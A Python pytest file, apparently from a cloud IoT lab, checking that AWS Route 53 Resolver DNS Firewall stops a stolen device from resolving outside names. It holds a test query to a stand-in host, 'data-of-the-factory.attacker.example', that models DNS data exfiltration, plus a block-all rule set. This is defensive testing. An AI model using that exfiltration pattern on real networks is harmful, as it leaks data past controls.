"""A stolen device asks the VPC's resolver for names of somebody else's: answered without DNS Firewall, refused with it.

It cannot prove how soon AWS applies a rule, nor what else of DNS Firewall AWS does (threat protection, fail open).
"""

from __future__ import annotations

import sys
from collections.abc import Iterator

import pytest

from lab.path.addresses import INTERNET_DNS
from tests.path.conftest import HandMadeLab

pytestmark = pytest.mark.path

# A question of type A to one resolver, by hand: the device's own resolver would ask whom it likes. RFC 1035, section 4.
ASK = """
import socket, sys
server, name = sys.argv[1:]
labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
question = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + labels + b"\\x00\\x00\\x01\\x00\\x01"
asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asking.settimeout(60)
asking.sendto(question, (server, 53))
answer = asking.recv(4096)
print(answer[3] & 15, socket.inet_ntoa(answer[-4:]) if answer[7] else "")
"""
NOERROR, NXDOMAIN = "0", "3"


def ask(lab: HandMadeLab, name: str) -> list[str]:
    """The response code and, where there is one, the address."""
    return lab.run("pi-1", sys.executable, "-c", ASK, "10.0.0.2", name).stdout.split()


@pytest.fixture
def walled(path_lab: HandMadeLab) -> Iterator[None]:
    """The VPC with a wall: AWS IoT's name alone is let through."""
    resolver = path_lab.aws.client("route53resolver")
    group = resolver.create_firewall_rule_group(CreatorRequestId="wall", Name="wall")["FirewallRuleGroup"]["Id"]
    lists = []
    for priority, (action, domain) in enumerate((("ALLOW", path_lab.iot_endpoint), ("BLOCK", "*"))):
        made = resolver.create_firewall_domain_list(CreatorRequestId=action, Name=action)["FirewallDomainList"]["Id"]
        lists.append(made)
        resolver.update_firewall_domains(FirewallDomainListId=made, Operation="ADD", Domains=[domain])
        response = {"BlockResponse": "NXDOMAIN"} if action == "BLOCK" else {}
        resolver.create_firewall_rule(
            CreatorRequestId=action,
            FirewallRuleGroupId=group,
            FirewallDomainListId=made,
            Name=action,
            Priority=priority,
            Action=action,
            **response,
        )
    association = resolver.associate_firewall_rule_group(
        CreatorRequestId="wall", FirewallRuleGroupId=group, VpcId=path_lab.made.vpc_id, Priority=101, Name="wall"
    )["FirewallRuleGroupAssociation"]["Id"]
    path_lab.sync()
    yield
    resolver.disassociate_firewall_rule_group(FirewallRuleGroupAssociationId=association)
    resolver.delete_firewall_rule_group(FirewallRuleGroupId=group)
    for made in lists:
        resolver.delete_firewall_domain_list(FirewallDomainListId=made)
    path_lab.sync()


def test_without_a_firewall_any_name_is_a_way_out(path_lab: HandMadeLab) -> None:
    with path_lab.tunnel("pi-1"):
        assert ask(path_lab, "data-of-the-factory.attacker.example") == [NOERROR, INTERNET_DNS]


def test_with_a_firewall_only_the_private_name_is_answered_and_the_device_works(
    path_lab: HandMadeLab, walled: None
) -> None:
    with path_lab.tunnel("pi-1"):
        assert ask(path_lab, "data-of-the-factory.attacker.example") == [NXDOMAIN]
        assert ask(path_lab, path_lab.iot_endpoint)[0] == NOERROR
        assert path_lab.pubsub("pi-1")["error"] is None
